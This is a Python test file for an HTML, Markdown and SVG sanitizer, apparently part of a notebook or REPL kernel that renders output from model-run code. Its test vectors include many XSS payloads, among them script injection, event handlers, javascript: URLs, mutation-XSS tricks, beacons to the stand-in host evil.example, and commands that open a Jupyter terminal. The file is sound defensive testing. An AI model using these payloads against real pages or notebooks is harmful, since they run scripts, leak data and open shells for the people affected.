"""What a model's code shows is inert, whatever it tries."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rlm_kernel.repl import bounds
from rlm_kernel.repl.bounds import html_is_light
from rlm_kernel.repl.safe import RENDERED, safe_bundle, safe_html, safe_svg

BAD_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "meta",
            "link", "style", "frame", "frameset", "applet", "noscript", "template", "math",
            "foreignobject", "animate", "set", "handler"}  # fmt: skip


class Look(HTMLParser):
    """Collects what could run, be fetched or be sent."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in BAD_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            text = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "autofocus"):
                self.found.append(f"{tag} {name}")
            if re.match(r"(javascript|vbscript|data:(?!image/(png|jpeg|gif|webp);))", text):
                self.found.append(f"{tag} {name}={value}")
            if name in ("src", "srcset", "poster", "background") and not text.startswith("data:"):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and "url(" in text:
                self.found.append(f"{tag} style={value}")
            if name.startswith("data-"):
                self.found.append(f"{tag} {name}")

    handle_startendtag = handle_starttag


def dangers(html: str) -> list[str]:
    look = Look()
    look.feed(html)
    look.close()
    return look.found


VECTORS = [
    "<script>fetch('/api/terminals', {method: 'POST'})</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<form action='/api/terminals' method=post><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<div style='background:url(https://evil.example/?x)'>x</div>",
    "<div style='background-color:red;border:url(//evil.example)'>x</div>",
    "<img src='https://evil.example/pixel?key=1'>",
    "<img srcset='https://evil.example/pixel 1x'>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<a data-commandlinker-command='terminal:create-new' href='#'>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css'; * {color: red}</style>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<<script>script>alert(1)<</script>/script>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_known_ways_are_inert_as_html_and_in_markdown(vector: str) -> None:
    for kind in ("text/html", "text/markdown"):
        kept, _, _ = safe_bundle({kind: vector + "<b>kept</b>"})
        assert "text/markdown" not in kept
        assert dangers(kept["text/html"]) == []


PIECE = st.sampled_from([
    "<", ">", "/", "\"", "'", "=", " ", "script", "svg", "img", "src", "onerror", "a", "href",
    "javascript:", "style", "iframe", "x", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#x6a;",
    "math", "mtext", "title", "noscript", "\x00", "data:text/html,", "url(", ")", "table",
])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECE, max_size=40).map("".join))
def test_no_text_becomes_something_that_runs(text: str) -> None:
    html = safe_html(text)
    assert html is not None
    assert dangers(html) == []
    kept, _, _ = safe_bundle({"text/html": text, "text/markdown": text, "image/svg+xml": text})
    for html in kept.values():
        assert dangers(html) == []


@pytest.mark.parametrize(
    "inside",
    ["<script>alert(1)</script>", "<foreignObject><body onload='x'/></foreignObject>",
     "<a href='javascript:x'><text>t</text></a>", "<image href='https://evil.example/x'/>",
     "<rect onclick='x' width='3'/>", "<style>@import 'x'</style>",
     "<use href='https://evil.example/#x'/>", "<rect fill='url(https://evil.example)'/>",
     "<animate attributeName='href' to='javascript:x'/>",
     "<set attributeName='onmouseover' to='x'/>"],
)  # fmt: skip
def test_an_svg_keeps_its_picture_and_loses_the_rest(inside: str) -> None:
    text = f"<svg xmlns='http://www.w3.org/2000/svg'><circle r='5' fill='red'/>{inside}</svg>"
    out = safe_svg(text)
    assert out is not None
    assert "circle" in out
    assert not re.search(r"script|evil|onclick|onload|@import|onmouseover|foreign", out)


def test_a_plot_as_svg_stays_a_plot() -> None:
    text = (
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' "
        "xmlns:xlink='http://www.w3.org/1999/xlink' width='9' viewBox='0 0 9 9'>"
        "<defs><path id='m' d='M 0 0 L 9 9'/><clipPath id='c'><rect width='9' height='9'/>"
        "</clipPath></defs><g clip-path='url(#c)'><use xlink:href='#m' x='1' style='fill: #f00'/>"
        "</g></svg>"
    )
    out = safe_svg(text)
    assert out is not None
    assert 'href="#m"' in out
    assert "url(#c)" in out
    assert "viewBox" in out


def test_what_is_not_an_svg_is_left_out() -> None:
    for text in ("", "<html/>", "<svg", "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>"):
        assert safe_svg(text) is None


def test_kinds_that_are_not_known_to_be_inert_are_left_out_and_named() -> None:
    data = {
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "application/vnd.plotly.v1+json": {},
        "image/png": "not base64 <script>",
        "text/latex": r"$\href{javascript:alert(1)}{x}$",
        "text/plain": "as it is <script>",
    }
    kept, _, left_out = safe_bundle(data)
    assert kept == {"text/plain": "as it is <script>"}
    assert len(left_out) == 5
    assert "application/javascript" in left_out


def test_tables_pictures_and_formulas_stay() -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"a": [1, 2], "b": ["x", "<b>"]})
    png = "iVBORw0KGgo="
    data = {"text/html": frame.to_html(), "image/png": png, "text/latex": r"$\frac{1}{2}$",
            "text/markdown": "**bold** and `code`", "application/json": {"a": [1]}}  # fmt: skip
    kept, about, left_out = safe_bundle(data, {"image/png": {"width": 3, "isolated": True}})
    assert left_out == []
    assert kept["text/html"].count("<td>") == 4
    assert "dataframe" in kept["text/html"]
    assert {k: kept[k] for k in data if k != "text/html"} == {
        k: data[k] for k in data if k != "text/html"
    }
    assert about == {"image/png": {"width": 3}}


# -- what would take long --------------------------------------------------------------------------

FEW, MANY = bounds.ANY_TAGS, bounds.MOST_TAGS
HEAVY = {
    "text/html": {
        "nested": "<div>" * 200_000,
        "nested and closed": "<div>" * FEW + "</div>" * FEW,
        "closed by others": "<div><object></div></object>" * FEW,
        "closed in another order": "<b><p></b>" * FEW,
        "closed in a comment": "<div><!-- <div> --></div>" * FEW,
        "closed in a text": "<textarea><a b='</textarea><div>'></a></textarea>" * FEW,
        "closed in a value": "<p title='</p>'>" * (FEW + 1),
        "an odd quote": "<p a\"><p b\">" * FEW,
        "closed in an equal value": "<p ==\"></p>\">" * (FEW + 1),
        "long": "x" * (bounds.MOST + 1),
        "many": "<p>x</p>" * (MANY // 2 + 1),
        "attributes": "<p " + " ".join(f"a{i}=1" for i in range(100_000)) + ">",
        "attributes with a sign": "<p a='>' " + " ".join(f"a{i}=1" for i in range(9_000)) + ">",
        "attributes of its end": "<p></p " + " ".join(f"a{i}" for i in range(9_000)) + ">",
        "attributes after a comment": "<!-- <p a='--><p " + "a " * 9_000 + ">",
        "attributes of many": "<b></b>" * FEW + "<b " + "a " * 9_000 + ">",
        "tags that never end": "<a " * FEW + "x " * 1_000_000,
        "names that never end": "<a" * FEW + "x" * 1_000_000,
        "quotes that never end": "<a b='" * FEW + "x" * 1_000_000,
    },
    "text/markdown": {
        "long": "![" * RENDERED, "long, shown as it is": "[" * (RENDERED + 1),
    },
    "text/latex": {"long": "x" * (RENDERED + 1)},
    "image/svg+xml": {
        "nested": "<svg>" + "<g>" * 10_000 + "</g>" * 10_000 + "</svg>",
        "many": "<svg>" + "<g/>" * MANY + "</svg>",
        "attributes": "<svg " + " ".join(f'a{i}=""' for i in range(2 * MANY + 1)) + "/>",
        "long": "<svg>" + "x" * bounds.MOST + "</svg>",
    },
}  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "text"),
    [pytest.param(kind, text, id=f"{kind}: {name}")
     for kind, all_ in HEAVY.items() for name, text in all_.items()],
)  # fmt: skip
def test_what_would_take_long_is_named_and_read_by_no_parser(
    kind: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import nh3

    def never(*_: object, **__: object) -> str:
        raise AssertionError("it was read")

    monkeypatch.setattr(nh3, "clean", never)
    kept, _, left_out = safe_bundle({kind: text})
    assert kept == {}
    assert left_out == [kind]


@pytest.mark.parametrize(
    "html",
    ["<table>" + "<tr><td style='color: red'>1</td><td>2<br></td></tr>" * 20_000 + "</table>",
     ("<div>" * bounds.DEEP + "</div>" * bounds.DEEP) * 100,
     "<ul><li>not closed" * (FEW // 2), "<p " + "a " * bounds.ATTRIBUTES + ">kept",
     "<img src='data:image/png;base64," + "A" * 4_000_000 + "'>", "a < b & c " * 1_000,
     "<style scoped>td {color: red}</style><!-- x -->" + "<p>x</p>" * 100],
)  # fmt: skip
def test_what_is_long_and_shallow_or_short_is_cleaned(html: str) -> None:
    assert html_is_light(html)


NAMES = ["b", "p", "div", "td", "table", "object"]
TAGS = st.sampled_from([
    *(f"<{name}>" for name in NAMES), *(f"</{name}>" for name in NAMES), "<br>", "<P a=1>",
    "<p title='</p>'>", "<b =\"</b>\">", "<p/>", "<div a=b/>", "<b a='x'b=\">\">", "x", "</B >",
])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(TAGS, max_size=12))
def test_what_nests_in_order_nests_no_deeper_when_it_is_read(pieces: list[str]) -> None:
    """Said of a text that is repeated: where each time leaves a tag open, it is too deep."""
    text = "".join(pieces)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(bounds, "ANY_TAGS", 0)
        patch.setattr(bounds, "DEEP", 40)
        if not html_is_light(text * 60):
            return
    html = safe_html(text * 60)
    assert html is not None
    assert deepest(html) <= 60


def test_no_parser_is_given_what_only_costs_it_time(monkeypatch: pytest.MonkeyPatch) -> None:
    import nh3

    read: list[str] = []
    monkeypatch.setattr(nh3, "clean", lambda text, **_: read.append(text) or "")
    safe_html("<b>a\0b</b>")
    assert read == ["<b>ab</b>"]


def deepest(html: str) -> int:
    """Count how deep HTML nests that was written by a parser."""
    depth = most = 0
    for end, name in re.findall(r"<(/?)(\w+)", html):
        if name not in ("br", "img", "hr"):
            depth += -1 if end else 1
        most = max(most, depth)
    return most


def test_an_svg_of_many_parts_that_stay_and_go() -> None:
    parts = "<circle/><script/><a><b/></a>" * 20_000
    out = safe_svg(f"<svg xmlns='http://www.w3.org/2000/svg'>{parts}</svg>")
    assert out is not None
    assert out.count("<circle") == 20_000
    assert "script" not in out
    assert "<a" not in out


def test_a_rendered_markdown_of_too_many_tags_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "MOST_TAGS", 100)
    monkeypatch.setattr(bounds, "ANY_TAGS", 100)
    assert safe_bundle({"text/markdown": "&#\n" + "*a* " * 200})[2] == ["text/markdown"]
